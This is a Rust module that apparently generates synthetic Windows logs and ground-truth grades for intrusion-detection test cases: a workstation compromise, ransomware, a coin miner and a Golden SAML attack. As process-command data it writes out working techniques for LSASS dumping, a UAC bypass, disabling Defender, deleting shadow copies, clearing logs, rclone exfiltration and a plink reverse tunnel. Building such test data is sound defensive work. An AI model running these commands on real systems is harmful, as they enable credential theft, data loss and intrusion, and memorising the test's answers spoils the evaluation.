//! What the intruders do, and what each record of it supports.
//!
//! The grades are the casebooks': what only an intruder does says yes, what
//! administrators do, too, says likely within a day of that.

use super::ordinary::{SYSTEM, administration, start, system32};
use super::{Stage, Supports, events, ordinary};
use crate::dice::Dice;
use crate::host::{later, march, within_second};
use crate::truth::Grade::{Likely, Yes};
use crate::truth::TruthWho;
use crate::windows::{self, Process};
use model::{AnswerWord, Timestamp};

const USER: &str = "EXAMPLE\\c.lind";
/// `IEX (sample)` and some filling, in UTF-16 and Base64: it says nothing that could run.
const ENCODED: &str = "SQBFAFgAIAAoAHMAYQBtAHAAbABlACkAIAAjACAAaQBuAGUAcgB0ACAAcwBhAG0AcABsAGUA";
pub(super) const PROGRAM_DATA: &str = "C:\\ProgramData\\sample";

pub(super) const EXECUTION: (&str, &str) = ("windows", "execution");
const PERSISTENCE: (&str, &str) = ("windows", "persistence");
const EVASION: (&str, &str) = ("windows", "defense-evasion");
const CREDENTIALS: (&str, &str) = ("windows", "credential-access");
pub(super) const LATERAL: (&str, &str) = ("windows", "lateral-movement");
pub(super) const CONTROL: (&str, &str) = ("windows", "command-and-control");
pub(super) const IMPACT: (&str, &str) = ("windows", "impact");

/// What everybody does who comes for that names nobody, whatever is known.
const NOBODY: [TruthWho; 2] = [
    TruthWho { as_of: "2021-07-19", first: &[], not_known: None },
    TruthWho { as_of: "2025-06-01", first: &[], not_known: None },
];

fn powershell() -> String {
    system32("WindowsPowerShell\\v1.0\\powershell.exe")
}

/// A command of the intruder's; gives its process.
pub(super) fn deed(
    stage: &mut Stage,
    time: Timestamp,
    (image, command): (&str, &str),
    parent: &Process,
    supports: Supports,
    dice: &mut Dice,
) -> (Process, Timestamp) {
    let time = within_second(time, dice);
    let process = start(stage, time, image, command, parent, dice);
    stage.plant(time, supports);
    (process, time)
}

pub(super) fn clean_windows(dice: &mut Dice) -> (&'static str, Stage) {
    let mut stage = Stage::new("SRV02", "10.20.0.32", dice);
    administration(&mut stage, dice);
    let about = "A server on which nothing happened but the work of its administrators: PsExec, backups, setups, \
                 scripts, archives, remote help.";
    (about, stage)
}

pub(super) fn windows_intrusion(dice: &mut Dice) -> (&'static str, Stage) {
    let mut stage = Stage::new("WS01", "10.20.4.58", dice);
    let word = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE";
    let office =
        Process::new(dice, word, "WINWORD.EXE /n \"C:\\Users\\c.lind\\Downloads\\offer.docm\"", USER);
    let hidden = format!("powershell.exe -nop -w hidden -enc {ENCODED}");
    let (shell, _) =
        deed(&mut stage, march(4, 9, 12, 5), (&powershell(), &hidden), &office, &[(EXECUTION, Yes)], dice);
    for (minute, program, command) in
        [(14, "nltest.exe", "nltest /domain_trusts"), (15, "net.exe", "net group \"Domain Admins\" /domain")]
    {
        let looked: Supports = &[(("windows", "discovery"), Likely)];
        deed(&mut stage, march(4, 9, minute, 40), (&system32(program), command), &shell, looked, dice);
    }
    higher_rights(&mut stage, &shell, dice);
    let (dumper, time) = deed(
        &mut stage,
        march(4, 9, 52, 18),
        (
            &system32("rundll32.exe"),
            "rundll32.exe C:\\windows\\System32\\comsvcs.dll MiniDump 668 C:\\ProgramData\\sample\\lsass.dmp full",
        ),
        &shell,
        &[(CREDENTIALS, Yes)],
        dice,
    );
    let written = later(time, 2_000);
    stage.server.log_event(windows::sysmon_file(written, &dumper, "C:\\ProgramData\\sample\\lsass.dmp"));
    stage.plant(written, &[(CREDENTIALS, Yes)]);
    let task = format!("schtasks /create /tn Sample /sc hourly /ru SYSTEM /tr \"powershell -enc {ENCODED}\"");
    // A task is a way to run something, too.
    let both: Supports = &[(PERSISTENCE, Yes), (EXECUTION, Likely)];
    deed(&mut stage, march(4, 10, 20, 31), (&system32("schtasks.exe"), &task), &shell, both, dice);
    from_host_to_host(&mut stage, dice);
    out_of_the_house(&mut stage, &shell, dice);
    let about = "A workstation: a document runs a hidden script; the intruder looks around, raises rights, blinds \
                 Defender, dumps LSASS, stays by a task, moves on over WMI, packs and sends out, keeps a tunnel.";
    (about, stage)
}

fn higher_rights(stage: &mut Stage, shell: &Process, dice: &mut Dice) {
    const RAISED: Supports = &[(("windows", "privilege-escalation"), Yes)];
    let key = "HKU\\S-1-5-21-1004336348-1177238915-682003330-1107_Classes\\ms-settings\\shell\\open\\command\\(Default)";
    let time = within_second(march(4, 9, 31, 2), dice);
    stage.server.log_event(windows::sysmon_registry(time, shell, key, "cmd.exe /c sample"));
    stage.plant(time, RAISED);
    let elevated = Process::new(dice, &system32("fodhelper.exe"), "fodhelper.exe", USER);
    let console = (&*system32("cmd.exe"), "cmd.exe /c sample");
    deed(stage, march(4, 9, 31, 9), console, &elevated, RAISED, dice);
    let off = "powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true";
    let (_, time) = deed(stage, march(4, 9, 40, 12), (&powershell(), off), shell, &[(EVASION, Yes)], dice);
    let said = later(time, 3_000);
    stage.server.log_event(events::defender(said, 5_001, Vec::new()));
    stage.plant(said, &[(EVASION, Likely)]);
}

fn from_host_to_host(stage: &mut Stage, dice: &mut Dice) {
    let provider =
        Process::new(dice, &system32("wbem\\WmiPrvSE.exe"), "wmiprvse.exe -secured -Embedding", SYSTEM);
    let command = "cmd.exe /Q /c ipconfig /all 1> \\\\127.0.0.1\\ADMIN$\\__1614852 2>&1";
    let came: Supports = &[(LATERAL, Yes), (EXECUTION, Likely)];
    deed(stage, march(4, 11, 2, 44), (&system32("cmd.exe"), command), &provider, came, dice);
}

fn out_of_the_house(stage: &mut Stage, shell: &Process, dice: &mut Dice) {
    let archive = format!("{PROGRAM_DATA}\\fonts.7z");
    let pack = format!("7z.exe a -psample {archive} C:\\Users\\c.lind\\Documents");
    let packer_image = format!("{PROGRAM_DATA}\\7z.exe");
    let packed: Supports = &[(("windows", "collection"), Likely)];
    let (packer, time) = deed(stage, march(4, 11, 30, 27), (&packer_image, &pack), shell, packed, dice);
    stage.server.log_event(windows::sysmon_file(later(time, 110), &packer, &archive));
    let tunnel = "plink.exe -ssh -N -R 3390:127.0.0.1:3389 sample@198.51.100.23";
    let plink = format!("{PROGRAM_DATA}\\plink.exe");
    for time in [march(4, 11, 45, 3), march(5, 8, 15, 50)] {
        deed(stage, time, (&plink, tunnel), shell, &[(CONTROL, Yes)], dice);
    }
    send_out(stage, march(4, 12, 5, 36), shell, &[(("windows", "exfiltration"), Yes)], dice);
}

fn send_out(stage: &mut Stage, time: Timestamp, shell: &Process, supports: Supports, dice: &mut Dice) {
    let image = format!("{PROGRAM_DATA}\\rclone.exe");
    let command = "rclone.exe copy C:\\ProgramData\\sample\\out mega:sample -q --ignore-existing --auto-confirm \
                   --multi-thread-streams 12 --transfers 12";
    deed(stage, time, (&image, command), shell, supports, dice);
}

pub(super) fn ransomware(dice: &mut Dice) -> (&'static str, Stage) {
    let mut stage = Stage::new("FS01", "10.20.0.41", dice);
    stage.who = NOBODY.to_vec();
    let cleared = march(5, 1, 25, 2);
    // What the Security log held before is gone.
    let span_start = stage.server.span.0;
    stage.server.channels.insert("Security", vec![(span_start, cleared)]);
    for question in
        [("windows", "persistence"), ("windows", "credential-access"), ("coin-mining", "kept-running")]
    {
        stage.silence.push((question, AnswerWord::CannotTell));
    }
    let time = within_second(march(4, 22, 5, 11), dice);
    stage.server.log_event(windows::service_installed(time, "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe"));
    stage.plant(time, &[(LATERAL, Likely), (EXECUTION, Likely), (("ransomware", "spread"), Likely)]);
    let remote = Process::new(dice, "C:\\Windows\\PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe", SYSTEM);
    let pack = format!("7z.exe a {PROGRAM_DATA}\\out\\d.7z D:\\Projects");
    let packed: Supports =
        &[(("windows", "collection"), Likely), (("ransomware", "extortion-staged"), Likely)];
    let packer = format!("{PROGRAM_DATA}\\7z.exe");
    deed(&mut stage, march(4, 22, 30, 40), (&packer, &pack), &remote, packed, dice);
    let sent: Supports = &[(("windows", "exfiltration"), Yes), (("ransomware", "extortion-staged"), Yes)];
    send_out(&mut stage, march(4, 22, 50, 19), &remote, sent, dice);
    blind_and_burn(&mut stage, &remote, dice);
    encrypt(&mut stage, dice);
    let wiped: Supports = &[(EVASION, Yes), (("ransomware", "logs-tampered"), Yes)];
    deed(
        &mut stage,
        march(5, 1, 25, 1),
        (&system32("wevtutil.exe"), "wevtutil.exe cl Security"),
        &remote,
        wiped,
        dice,
    );
    let said = within_second(cleared, dice);
    stage.server.log_event(windows::security_cleared(said, "FS01$"));
    stage.plant(said, wiped);
    let about = "A file server: reached with PsExec, data packed and sent out, protection and shadow copies removed, \
                 files encrypted, the Security log cleared.";
    (about, stage)
}

pub(super) fn blind_and_burn(stage: &mut Stage, remote: &Process, dice: &mut Dice) {
    const OFF: Supports = &[(EVASION, Yes), (("ransomware", "security-off"), Yes)];
    const BURNT: Supports = &[(IMPACT, Yes), (("ransomware", "recovery-removed"), Yes)];
    let shell = powershell();
    let deeds: [(Timestamp, &str, &str, Supports); 5] = [
        (march(5, 1, 12, 4), "taskkill.exe", "taskkill /F /IM SophosHealth.exe", OFF),
        (
            march(5, 1, 12, 20),
            &shell,
            "powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true",
            OFF,
        ),
        (march(5, 1, 15, 10), "vssadmin.exe", "vssadmin.exe Delete Shadows /All /Quiet", BURNT),
        (march(5, 1, 15, 14), "wbem\\WMIC.exe", "wmic.exe shadowcopy delete /nointeractive", BURNT),
        (march(5, 1, 15, 20), "bcdedit.exe", "bcdedit.exe /set {default} recoveryenabled No", BURNT),
    ];
    for (time, program, command, supports) in deeds {
        let image = if program.contains(':') { program.to_owned() } else { system32(program) };
        deed(stage, time, (&image, command), remote, supports, dice);
    }
}

/// Some of the files: their new names say what happened to them.
fn encrypt(stage: &mut Stage, dice: &mut Dice) {
    const LOST: Supports = &[(IMPACT, Yes), (("ransomware", "files-encrypted"), Yes)];
    let image = format!("{PROGRAM_DATA}\\run.exe");
    let program = Process::new(dice, &image, &image, SYSTEM);
    let files = ["plan.docx.lockbit", "budget.xlsx.lockbit", "drawing.dwg.lockbit", "Restore-My-Files.txt"];
    for (index, name) in files.into_iter().enumerate() {
        let time = within_second(later(march(5, 1, 16, 30), index as i64 * 41_000), dice);
        let target = format!("D:\\Projects\\{name}");
        stage.server.log_event(windows::sysmon_file(time, &program, &target));
        stage.plant(time, LOST);
    }
}

pub(super) fn coin_miner(dice: &mut Dice) -> (&'static str, Stage) {
    const RAN: Supports = &[(EXECUTION, Yes), (IMPACT, Yes), (("coin-mining", "miner-run"), Yes)];
    const POOL: Supports = &[(IMPACT, Likely), (("coin-mining", "pool"), Yes)];
    let mut stage = Stage::new("SRV01", "10.20.0.31", dice);
    stage.who = NOBODY.to_vec();
    let service = Process::new(dice, &system32("svchost.exe"), "svchost.exe -k netsvcs", SYSTEM);
    let hidden = format!("powershell.exe -nop -w hidden -enc {ENCODED}");
    let brought: Supports = &[(EXECUTION, Yes), (("coin-mining", "brought"), Likely)];
    let (shell, _) = deed(&mut stage, march(4, 3, 10, 5), (&powershell(), &hidden), &service, brought, dice);
    let away = "powershell.exe Add-MpPreference -ExclusionPath C:\\ProgramData\\sample";
    let excluded: Supports = &[(EVASION, Likely), (("coin-mining", "security-off"), Likely)];
    deed(&mut stage, march(4, 3, 11, 20), (&powershell(), away), &shell, excluded, dice);
    let rivals: Supports = &[(("coin-mining", "rivals-removed"), Yes)];
    let end = (&*system32("taskkill.exe"), "taskkill /f /im xmrig.exe");
    deed(&mut stage, march(4, 3, 12, 2), end, &shell, rivals, dice);
    let image = format!("{PROGRAM_DATA}\\w.exe");
    for day in [4, 5] {
        let command = "w.exe -o stratum+tcp://xmr-eu1.nanopool.org:14433 -u sample -p x --donate-level 1";
        let (miner, time) = deed(&mut stage, march(day, 3, 13, 30), (&image, command), &shell, RAN, dice);
        let asked = later(time, 2_000);
        let answer = "203.0.113.60";
        stage.server.log_event(events::name_asked_for(asked, &miner, "xmr-eu1.nanopool.org", answer));
        stage.plant(asked, POOL);
        let host = &stage.server.host;
        let talked = windows::sysmon_connection(later(asked, 90), &miner, host, answer, 14_433);
        stage.server.log_event(talked);
    }
    let task = "schtasks /create /tn Sample /sc minute /mo 5 /tr C:\\ProgramData\\sample\\w.exe";
    let kept: Supports =
        &[(PERSISTENCE, Likely), (EXECUTION, Likely), (("coin-mining", "kept-running"), Likely)];
    deed(&mut stage, march(4, 3, 14, 10), (&system32("schtasks.exe"), task), &shell, kept, dice);
    let about = "A server on which a miner was brought by a hidden script, ended another one, and is started again by \
                 a task.";
    (about, stage)
}

pub(super) fn golden_saml(dice: &mut Dice) -> (&'static str, Stage) {
    const TAKEN: Supports = &[(CREDENTIALS, Yes), (("cloud-identity", "signing-key-taken"), Yes)];
    const EXPORTED: Supports = &[(CREDENTIALS, Likely), (("cloud-identity", "signing-key-taken"), Likely)];
    let mut stage = Stage::new("STS01", "10.20.0.51", dice);
    stage.silence = ["app-credentials", "federation-changed"]
        .map(|id| (("cloud-identity", id), AnswerWord::CannotTell))
        .to_vec();
    federation_service(&mut stage, dice);
    let shell = Process::new(dice, &powershell(), "powershell.exe", ordinary::ADMIN);
    let time = within_second(march(4, 2, 20, 8), dice);
    stage.server.log_event(events::script(time, "Export-AADIntADFSSigningCertificate"));
    stage.plant(time, TAKEN);
    let time = later(time, 3_000);
    stage.server.log_event(events::pipe_connected(time, &shell, "\\MICROSOFT##WID\\tsql\\query"));
    stage.plant(time, TAKEN);
    let time = within_second(march(4, 2, 24, 51), dice);
    stage.server.log_event(events::certificate_exported(time, "CN=ADFS Signing - sts.example.test"));
    stage.plant(time, EXPORTED);
    let time = within_second(march(4, 2, 40, 33), dice);
    stage.server.log_event(events::adfs_audit(time, 307, &["sample", "claims provider trust changed"]));
    stage.plant(time, &[(("cloud-identity", "adfs-changed"), Likely)]);
    let time = within_second(march(4, 3, 5, 12), dice);
    let forged =
        "New-AADIntSAMLToken -ImmutableID sample -Issuer http://sts.example.test/adfs/services/trust";
    stage.server.log_event(events::script(time, forged));
    stage.plant(time, &[(("cloud-identity", "token-forged"), Yes)]);
    let about = "An AD FS server whose signing key was read by a public script and exported, on which a token was \
                 forged; the tenant's logs are not in the evidence.";
    (about, stage)
}

/// What AD FS itself logs, every hour: it reads its database, and issues tokens.
fn federation_service(stage: &mut Stage, dice: &mut Dice) {
    let channel = events::ADFS.channel;
    stage.server.channels.insert(channel, Vec::new());
    let from = stage.server.span.0;
    stage.server.log_event(windows::mark(later(from, 1_000), channel));
    let image = "C:\\Windows\\ADFS\\Microsoft.IdentityServer.ServiceHost.exe";
    let service = Process::new(dice, image, image, "EXAMPLE\\svc_adfs");
    for hour in 0..72 {
        let time = later(from, hour * 3_600_000 + dice.between(20_000, 3_000_000) as i64);
        stage.server.log_event(events::adfs_admin(time, 100, "The Federation Service runs."));
        let time = later(time, 4_000);
        stage.server.log_event(events::pipe_connected(time, &service, "\\MICROSOFT##WID\\tsql\\query"));
        stage.server.log_event(events::adfs_audit(later(time, 9_000), 1_200, &["sample", "token issued"]));
    }
}
